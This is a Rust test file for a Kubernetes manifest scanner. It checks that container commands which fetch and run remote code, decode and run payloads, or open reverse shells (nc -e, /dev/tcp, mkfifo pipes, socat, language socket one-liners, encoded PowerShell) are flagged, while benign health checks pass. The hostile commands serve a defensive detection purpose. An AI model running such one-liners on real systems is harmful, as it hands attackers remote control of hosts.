//! What containers are told to run.

use serde_json::{Value, json};

use crate::support::{fails, judge, pod};
use crate::{is_silent, offences, passes, with_image};

/// What is wrong with `sh -c script`.
fn of_script(script: &str) -> Option<String> {
    let spec = json!({"containers": [{"name": "web", "command": ["/bin/sh", "-c", script]}]});
    let found = offences("shell-entrypoint", &spec);
    assert!(found.len() < 2, "{script}: {found:?}");
    found.first().map(|offence| offence.replace("containers[web].command: ", ""))
}

#[test]
fn scripts_that_run_what_they_fetch() {
    for (script, how) in [
        ("curl -fsSL https://get.example/x.sh | sh", "curl | sh"),
        ("wget -qO- https://get.example/x.sh|bash", "wget | bash"),
        ("set -e; apk add curl && curl x | sudo -E bash -s -- -y; nginx", "curl | bash"),
        ("curl x | tee /tmp/log | gunzip | /bin/dash -", "curl | dash"),
        ("if ! curl x | zsh; then exit 1; fi", "curl | zsh"),
        ("curl x | python3 -", "curl | python"),
        ("curl x | perl", "curl | perl"),
        ("curl x | . /dev/stdin", "curl | source"),
        ("curl -sfL https://get.example | sh -s - server -c x", "curl | sh"),
        ("curl x | bash -euo pipefail", "curl | bash"),
        ("curl x | python3 -u - --version 2", "curl | python"),
        ("bash -euo pipefail -c \"$(curl x)\"", "runs what curl prints"),
        ("(curl x; echo) | sh", "curl | sh"),
        ("for i in 1 2; do wget -O- $i; done | sh", "wget | sh"),
        ("sh -c \"$(curl -fsSL x)\"", "runs what curl prints"),
        ("$(wget -qO- x)", "runs what wget prints"),
        ("eval `curl -s x`", "runs what curl prints"),
        ("bash <(curl -s x)", "runs what curl prints"),
        (". <(curl -s x)", "runs what curl prints"),
        ("bash <<< \"$(curl -s x)\"", "runs what curl prints"),
        ("bash < <(curl -s x)", "runs what curl prints"),
        ("echo \"$(curl -s x)\" | sh", "curl | sh"),
        ("X=$(curl x | sh)", "curl | sh"),
        ("bash -c 'bash -c \"curl x | bash\"'", "curl | bash"),
        ("nsenter -t 1 -m -- bash -c 'curl x | bash'", "curl | bash"),
        ("busybox wget -O - x | busybox sh", "wget | sh"),
        ("curl x |\\\n sh", "curl | sh"),
        (
            "curl -o /tmp/x https://get.example/x && chmod +x /tmp/x && /tmp/x",
            "runs what curl has saved",
        ),
        ("cd /tmp; curl -sSLO https://get.example/x.sh?a=b; sh ./x.sh", "runs what curl has saved"),
        ("wget https://get.example/x.py && python3 -u x.py", "runs what wget has saved"),
        (
            "wget -qO /usr/local/bin/x https://y && chmod 755 /usr/local/bin/x; x run",
            "runs what wget has saved",
        ),
        ("curl x > /tmp/y; bash /tmp/y", "runs what curl has saved"),
        ("curl x | tee run.sh; . ./run.sh", "runs what curl has saved"),
        ("echo aWQ= | base64 -d | sh", "base64 -d | sh"),
        ("echo aWQ= | base64 --decode | bash -s", "base64 -d | bash"),
        ("echo aWQ= | openssl enc -base64 -d | sh", "base64 -d | sh"),
        ("eval $(echo aWQ= | base64 -di)", "runs what base64 -d prints"),
        ("echo aWQ= | base64 -d > /tmp/a; sh /tmp/a", "runs what base64 -d has saved"),
    ] {
        assert_eq!(of_script(script).as_deref(), Some(how), "{script}");
    }
}

#[test]
fn scripts_that_hand_a_shell_to_the_network() {
    for (script, how) in [
        ("nc -e /bin/sh 192.0.2.1 4444", "a program on a network connection"),
        ("nc -lvp 4444 -e /bin/bash", "a program on a network connection"),
        ("ncat --exec '/bin/bash -i' 192.0.2.1 4444", "a program on a network connection"),
        ("ncat 192.0.2.1 4444 -c '/bin/bash -i'", "a program on a network connection"),
        ("socat EXEC:'/bin/bash -li',pty TCP:192.0.2.1:1", "a program on a network connection"),
        ("nc -l -p 4444 | sh", "nc | sh"),
        ("rm f; mkfifo f; cat f | sh -i 2>&1 | nc 192.0.2.1 1 > f", "sh on a network connection"),
        (
            "mkfifo s; sh -i < s 2>&1 | openssl s_client -quiet -connect x:443 > s",
            "sh on a network connection",
        ),
        ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "bash on a network connection"),
        ("0<&196; exec 196<>/dev/tcp/x/1; sh <&196 >&196 2>&196", "sh on a network connection"),
        ("exec /bin/sh 0</dev/tcp/x/1 1>&0 2>&0", "sh on a network connection"),
        ("cat < /dev/udp/192.0.2.1/1 | bash", "/dev/tcp | bash"),
        (
            "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"x\",1));pty.spawn(\"/bin/sh\")'",
            "python with a connection and a shell",
        ),
        (
            "perl -e 'use Socket;socket(S,2,1,6);exec(\"/bin/sh -i\");'",
            "perl with a connection and a shell",
        ),
        (
            "ruby -rsocket -e'f=TCPSocket.open(\"x\",1);exec \"/bin/sh -i\"'",
            "ruby with a connection and a shell",
        ),
        ("php -r '$s=fsockopen(\"x\",1);exec(\"sh <&3\");'", "php with a connection and a shell"),
        (
            "python -c \"import urllib.request as u;exec(u.urlopen('http://x').read())\"",
            "python runs what it fetches",
        ),
        (
            "python -c \"import base64;exec(base64.b64decode('aWQ='))\"",
            "python runs what it decodes",
        ),
        ("pwsh -c 'iex (iwr https://x/y.ps1)'", "powershell runs what it fetches"),
        ("powershell.exe -enc aQBkAA==", "powershell runs what it decodes"),
    ] {
        assert_eq!(of_script(script).as_deref(), Some(how), "{script}");
    }
}

#[test]
fn honest_scripts() {
    for script in [
        "exec nginx",
        "exec nginx -g 'daemon off;'",
        "wget -q -O- localhost/healthz",
        "wget -q --spider http://localhost/node && node server.js",
        "curl -sf http://localhost:8080/healthz || exit 1",
        "curl -s localhost/metrics | grep -q up",
        "curl -s localhost | python3 -m json.tool",
        "curl -s localhost | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
        "curl -s localhost | jq -r .id | xargs echo",
        "curl -s localhost | sh -c 'cat > /dev/null'",
        "curl -s localhost | bash report.sh",
        "curl -s localhost | bash report.sh -s",
        "curl -s localhost | bash -o pipefail report.sh",
        "curl -s localhost | python3 -u report.py -",
        "curl -sL https://x/y.tar.gz | tar xz && ./y/run",
        "test \"$(curl -s -o /dev/null -w '%{http_code}' localhost)\" = 200",
        "IP=$(curl -s http://169.254.169.254/latest/meta-data/local-ipv4); exec app --ip $IP",
        "exec app --ip \"$(curl -s localhost/ip)\"",
        "bash start.sh --ip \"$(curl -s localhost/ip)\"",
        "curl -o /data/config.json https://x/config.json && node server.js /data/config.json",
        "curl -so /dev/null localhost; sh /app/null.sh",
        "echo 'curl x | sh'",
        "echo \"to install: curl x | sh\" > README",
        "# curl x | sh\nexec app",
        "curl x || sh fallback.sh",
        "curl x; sh start.sh",
        "curl x && sh -c 'exec app'",
        "echo aWQ= | base64 -d > /etc/app/id; exec app",
        "echo id | base64 | sh -c cat",
        "base64 /etc/hostname",
        "until nc -z db 5432; do sleep 1; done",
        "nc -zv -w 5 db 5432 && exec app",
        "timeout 1 bash -c 'cat < /dev/null > /dev/tcp/db/5432'",
        "timeout 1 bash -c '</dev/tcp/db/5432'",
        "exec 3<>/dev/tcp/localhost/80; echo GET >&3; cat <&3",
        "python3 -c \"import socket; socket.create_connection(('localhost', 80))\"",
        "python3 -c \"import urllib.request as u; assert u.urlopen('http://localhost').status == 200\"",
        "node -e \"require('http').get('http://localhost')\"",
        "perl -e 'exec \"nginx\"'",
        "socat TCP-LISTEN:80,fork TCP:db:80",
        "socat TCP-LISTEN:80,fork,reuseaddr SYSTEM:'echo hello'",
        "pip install -r requirements.txt && python app.py",
        "cat script.sh | sh",
        "sh script.sh 2>&1 | nc log 514",
        "while true; do date; sleep 5; done",
        "command -v curl | sh -c cat",
        "",
        "'",
        "$(",
    ] {
        assert_eq!(of_script(script), None, "{script}");
    }
}

#[test]
fn a_command_without_a_shell_has_no_pipes() {
    let found = |command: Value| {
        fails("shell-entrypoint", &json!({"containers": [{"name": "web", "command": command}]}))
    };
    assert!(!found(json!(["curl", "x", "|", "sh"])));
    assert!(!found(json!(["echo", "curl x | sh"])));
    assert!(!found(json!(["wget", "-q", "-O-", "localhost/healthz"])));
    assert!(found(json!(["nc", "-e", "/bin/sh", "192.0.2.1", "4444"])));
    assert!(found(json!(["/bin/bash", "-ec", "curl x | sh"])));
    assert!(found(json!(["env", "A=1", "timeout", "5", "sh", "-xc", "curl x | sh"])));
    assert!(found(json!(["sh", "-c", "$(curl x)"])));
}

#[test]
fn every_field_that_runs_something_is_looked_at() {
    let script = "curl x | sh";
    let exec = json!({"exec": {"command": ["sh", "-c", script]}});
    for (container, path) in [
        (json!({"command": ["sh", "-c", script]}), "command"),
        (json!({"command": ["sh", "-c"], "args": [script]}), "args"),
        // The program of the image may be a shell.
        (json!({"args": ["-c", script]}), "args"),
        (json!({"args": [script]}), "args"),
        (json!({"lifecycle": {"postStart": exec}}), "lifecycle.postStart.exec.command"),
        (json!({"lifecycle": {"preStop": exec}}), "lifecycle.preStop.exec.command"),
        (json!({"livenessProbe": exec}), "livenessProbe.exec.command"),
        (json!({"readinessProbe": exec}), "readinessProbe.exec.command"),
        (json!({"startupProbe": exec}), "startupProbe.exec.command"),
    ] {
        for list in ["initContainers", "containers", "ephemeralContainers"] {
            let mut container = container.clone();
            container["name"] = json!("web");
            let expected = format!("{list}[web].{path}: curl | sh");
            assert_eq!(offences("shell-entrypoint", &json!({list: [container]})), [expected]);
        }
    }
}

/// A command may hold a password: the offence holds nothing of it.
#[test]
fn offences_quote_no_command() {
    let script = "curl -u admin:hunter2 https://hunter2.example/x -o hunter2; sh hunter2";
    assert_eq!(of_script(script).as_deref(), Some("runs what curl has saved"));
    assert_eq!(of_script("curl -u a:hunter2 x | hunter2=1 sh").as_deref(), Some("curl | sh"));
}

#[test]
fn a_cron_job_that_reaches_its_node() {
    let cron_job = |spec: Value| {
        json!({"apiVersion": "batch/v1", "kind": "CronJob", "metadata": {"name": "web"},
               "spec": {"jobTemplate": {"spec": {"template": {"spec": spec}}}}})
    };
    let check = "cronjob-suspicious";
    let offences = |spec: Value| judge(&[cron_job(spec)]).remove(check).unwrap_or_default();
    let whole = json!({
        "hostNetwork": true, "hostPID": true, "hostIPC": true,
        "volumes": [{"name": "root", "hostPath": {"path": "/"}}],
        "initContainers": [{"name": "a", "securityContext": {"privileged": true}}],
        "containers": [{"name": "b", "command": ["sh", "-c", "curl x | sh"]}]});
    let expected = [
        "hostIPC: ",
        "hostNetwork: ",
        "hostPID: ",
        "volumes: a path of the node",
        "initContainers[a].securityContext.privileged: ",
        "containers[b].command: curl | sh",
    ];
    assert_eq!(offences(whole.clone()), expected);
    assert!(passes(check, &[cron_job(with_image("app:1"))]));
    assert!(is_silent(check, &[pod(&whole)]));
}

#[test]
fn an_api_client_counts_with_a_token() {
    let check = "api-client-in-container";
    let account = |automount: Option<bool>| {
        json!({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "default"},
               "automountServiceAccountToken": automount})
    };
    let job = |container: &Value, automount: Option<bool>| {
        json!({"apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "web"},
               "spec": {"template": {"spec": {"automountServiceAccountToken": automount,
                                              "containers": [container]}}}})
    };
    for (container, offence) in [
        (json!({"command": ["kubectl", "get", "pods"]}), "command: kubectl"),
        (json!({"command": ["sh", "-c", "set -e; /usr/bin/helm upgrade x"]}), "command: helm"),
        (json!({"command": ["sh", "-c"], "args": ["X=$(argocd app list)"]}), "args: argocd"),
        (
            json!({"lifecycle": {"preStop": {"exec": {"command": ["kubectl", "drain"]}}}}),
            "lifecycle.preStop.exec.command: kubectl",
        ),
        (json!({"image": "bitnami/kubectl:1.34"}), "image: kubectl"),
        (json!({"image": "mirror.example/alpine/k8s:1.34.0"}), "image: alpine/k8s"),
    ] {
        let mut container = container;
        container["name"] = json!("web");
        let judged = |objects: &[Value]| judge(objects).remove(check).unwrap_or_default();
        let expected = [format!("containers[web].{offence}")];
        assert_eq!(judged(&[job(&container, None)]), expected, "{container}");
        assert_eq!(judged(&[job(&container, Some(true)), account(Some(false))]), expected);
        assert!(passes(check, &[job(&container, None), account(Some(false))]), "{container}");
        assert!(passes(check, &[job(&container, Some(false)), account(None)]), "{container}");
        // Admission has mounted no token into the live Pod.
        let mut live = pod(&json!({"containers": [container]}));
        live["status"] = json!({"phase": "Running"});
        assert!(passes(check, &[live]), "{container}");
    }
    for container in [
        json!({"name": "web", "image": "registry.example/kubectl-docs:1"}),
        json!({"name": "web", "image": "registry.example/helm/web:1"}),
        json!({"name": "web", "command": ["echo", "kubectl"]}),
        json!({"name": "web", "command": ["sh", "-c", "echo kubectl get pods"]}),
        json!({"name": "web", "command": ["sh", "-c", "command -v kubectl"]}),
        json!({"name": "web", "command": ["argocd-server"]}),
    ] {
        assert!(is_silent(check, &[job(&container, Some(true))]), "{container}");
    }
}

#[test]
fn git_sync_under_both_names() {
    let spec = |variable: &Value| json!({"initContainers": [{"name": "git", "env": [variable]}]});
    let found = |variable: &Value| offences("git-sync-injection", &spec(variable));
    assert_eq!(
        found(&json!({"name": "GITSYNC_GIT", "value": "/x"})),
        ["initContainers[git].env: GITSYNC_GIT"]
    );
    let from = json!({"name": "GIT_SYNC_GIT", "valueFrom": {"configMapKeyRef": {"name": "a"}}});
    assert_eq!(found(&from), ["initContainers[git].env: GIT_SYNC_GIT"]);
    assert!(found(&json!({"name": "GITSYNC_GIT_CONFIG", "value": "x"})).is_empty());
}
